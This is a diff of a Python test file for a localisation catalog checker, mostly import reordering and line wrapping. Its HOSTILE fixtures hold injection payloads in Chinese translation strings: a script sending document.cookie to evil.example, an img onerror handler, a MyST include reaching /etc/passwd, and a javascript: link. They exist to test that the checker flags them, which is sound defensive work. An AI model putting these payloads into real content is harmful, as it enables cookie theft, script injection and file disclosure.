@@ -5,18 +5,19 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from project_copy import copy_project
 
 from l10n.catalog.io import read_po, write_po
 from l10n.checks.findings import ERROR
 from l10n.checks.runner import check_catalogs
 from l10n.cli import main
 from l10n.config import load_config
+from project_copy import copy_project
 
 TARGET = "The listing is in no particular order other than being grouped by the year."
 
 HOSTILE = {
-    "script": ("这些记录按年份分组。<script>fetch('https://evil.example/?c='+document.cookie)</script>", "raw-html"),
+    "script": ("这些记录按年份分组。<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+               "raw-html"),
     "img-onerror": ("这些记录按年份分组。<img src=x onerror=alert(1)>", "raw-html"),
     "include-parent": ("这些记录按年份分组。\n```{include} ../../../../etc/passwd\n```", "myst-directive"),
     "javascript-link": ("这些记录按 [年份](javascript:alert(1)) 分组。", "unsafe-url"),
